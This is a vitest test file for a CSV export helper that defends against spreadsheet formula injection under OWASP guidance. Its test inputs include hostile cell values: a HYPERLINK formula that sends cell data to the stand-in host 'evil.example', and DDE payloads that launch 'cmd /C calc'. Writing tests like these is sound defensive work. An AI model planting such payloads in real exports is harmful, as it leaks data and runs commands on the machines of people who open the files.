// Issue 10, finding 5: spreadsheet formulas must not pass into CSV exports.
// The rule checked here is OWASP's "CSV Injection" guidance (owasp.org/www-community/attacks/
// CSV_Injection): a cell starting with = + - @, tab (0x09) or carriage return (0x0D) gets a leading
// single quote and is wrapped in double quotes, embedded quotes doubled; OWASP ASVS 5.0 requirement
// 1.2.10 adds NUL. The files are read back with papaparse, an independent RFC 4180 reader.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvText, readCsvText } from './csv-cell';
import { readCsvRecords } from './csv-records';

/** The single field of a one-cell CSV line, as a spreadsheet's CSV reader sees it. */
const parsed = (line: string) => Papa.parse<string[]>(line, { delimiter: ',' }).data[0][0];

// Hostile values the issue reproduced, plus the other trigger characters.
const hostile = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'-2+3',
	'\t=1+2',
	'\r=1+2',
	'=1+2";=1+2',
	"'=already quoted",
	'\0=1'
];

describe('csvText neutralises formula starts (OWASP CSV Injection)', () => {
	it.each(hostile)('%j reads back as text starting with a single quote', (value) => {
		const cell = csvText(value);
		expect(cell.startsWith('"')).toBe(true); // wrapped in double quotes, as OWASP shows
		const field = parsed(cell);
		expect(field).toBe(`'${value}`);
		expect(field.charAt(0)).toBe("'");
		expect(readCsvText(field)).toBe(value);
	});

	it('follows OWASP\'s worked example: =1+2";=1+2 becomes "\'=1+2"";=1+2"', () => {
		expect(csvText('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
	});

	it('leaves ordinary text alone and quotes per RFC 4180 §2.6–2.7 only where needed', () => {
		expect(csvText('EngineSpeed')).toBe('EngineSpeed');
		expect(csvText('kPa')).toBe('kPa');
		expect(csvText('a,b')).toBe('"a,b"');
		expect(csvText('say "hi"')).toBe('"say ""hi"""');
		expect(csvText('')).toBe('');
	});

	it('keeps a text that merely contains a trigger after the first character', () => {
		expect(csvText('Coolant-Temp')).toBe('Coolant-Temp');
		expect(csvText('a=b')).toBe('a=b');
	});
});

describe('numbers stay numbers', () => {
	it.each([-40, -0.5, 1e-7, -1234.5625, 0, 123456789])('%d is written as itself', (n) => {
		const cell = csvCell(n);
		expect(cell).toBe(String(n));
		// A spreadsheet (and papaparse's dynamic typing) reads it as the same number.
		expect(Papa.parse<number[]>(cell, { dynamicTyping: true }).data[0][0]).toBe(n);
	});

	it('a row mixes numbers, text, booleans and blanks', () => {
		const row = csvRow([-40, '-40', true, null, 'x']);
		expect(row).toBe(`-40,"'-40",1,,x`);
		expect(readCsvRecords(row)[0].fields.map(readCsvText)).toEqual(['-40', '-40', '1', '', 'x']);
	});
});

describe('readCsvText', () => {
	it('takes off only the quote that csvText added', () => {
		for (const value of [...hostile, "'plain", "''", 'plain', "''=x"]) {
			expect(readCsvText(parsed(csvText(value) || '""'))).toBe(value);
		}
	});
});
